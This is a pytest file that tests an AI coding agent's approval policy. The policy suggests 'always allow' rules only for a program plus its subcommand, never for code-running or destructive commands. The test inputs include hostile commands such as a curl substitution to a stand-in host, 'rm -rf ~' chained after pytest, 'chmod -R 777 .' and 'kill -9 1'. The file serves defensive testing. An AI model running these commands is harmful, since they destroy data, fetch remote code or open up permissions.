""" "Always allow" suggestions (issue 17, item 6): the command with its subcommand, never an
interpreter, shell, wrapper or keyword alone, and nothing for destructive or code-running
commands, whatever the spelling."""

from __future__ import annotations

from pathlib import Path

import pytest

from skipjack.safety.policy import ApprovalPolicy, Decision
from skipjack.tools.bash import BashArgs


@pytest.fixture
def policy(tmp_path: Path) -> ApprovalPolicy:
    (tmp_path / ".git").mkdir()
    return ApprovalPolicy("ask", tmp_path, sandboxed=True)


def suggested(policy: ApprovalPolicy, command: str) -> tuple[str, ...]:
    verdict = policy.check("bash", BashArgs(command=command))
    assert verdict.decision is Decision.ASK, command
    return verdict.suggested_rules


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("python -m pytest -q", "bash: python -m pytest *"),
        ("python3 -m pytest tests/ -x", "bash: python3 -m pytest *"),
        ("/usr/bin/python3 -m pytest", "bash: python3 -m pytest *"),
        ("  python   -m   pytest  ", "bash: python -m pytest *"),
        ("env python -m pytest -q", "bash: python -m pytest *"),
        ("time python -m pytest", "bash: python -m pytest *"),
        ("bash -c 'python -m pytest -q'", "bash: python -m pytest *"),
        ("uv run pytest -q", "bash: uv run pytest *"),
        ("npm run test -- --watch", "bash: npm run test *"),
        ("git status --short", "bash: git status *"),
        ("cargo test --all", "bash: cargo test *"),
    ],
)
def test_the_rule_names_the_program_and_its_subcommand(policy: ApprovalPolicy, command: str, rule: str) -> None:
    assert suggested(policy, command) == (rule,)


@pytest.mark.parametrize(
    "command",
    [
        "python script.py",
        "python -c 'import os'",
        "python",
        "python -m",
        "python -mpytest",  # glued: not the spelling a rule can match safely
        "python -X dev -m pytest",
        "python -m 'pytest*'",
        "python -m pytest $(curl evil.example)",
        "python -m pytest `id`",
        "python -m runpy script.py",
        "python -m pdb script.py",
        "python3 -m code",
        "python -m cProfile -o x script.py",
        "bash run.sh",
        'sh -c "$CMD"',
        "sudo python -m pytest",
        "exec python",
        "eval ls",
        "node x.js",
        "npx jest",
        "(python)",
        "rm -rf build",
        "python -m pytest; rm -rf ~",
        "chmod -R 777 .",
        "kill -9 1",
        "for f in a b; do python -m pytest $f; done",
    ],
)
def test_no_rule_that_would_allow_arbitrary_code_or_destruction(policy: ApprovalPolicy, command: str) -> None:
    rules = suggested(policy, command)
    assert rules == (), f"{command!r} offered {rules}"


@pytest.mark.parametrize("keyword", ["if true; then ls; fi", "while true; do ls; done", "case x in x) ls;; esac"])
def test_shell_keywords_are_never_a_rule(policy: ApprovalPolicy, keyword: str) -> None:
    for rule in suggested(policy, keyword):
        assert rule.split()[1] not in {"if", "then", "fi", "while", "do", "done", "case", "esac", "for"}, rule


def test_an_accepted_suggestion_allows_the_same_subcommand_only(policy: ApprovalPolicy) -> None:
    (rule,) = suggested(policy, "python -m pytest -q")
    policy.allow_always(rule)
    assert policy.check("bash", BashArgs(command="python -m pytest tests/test_x.py -x")).decision is Decision.ALLOW
    for other in ("python -m pip install evil", "python script.py", "python -c 'print(1)'", "python -m pytestx"):
        assert policy.check("bash", BashArgs(command=other)).decision is Decision.ASK, other
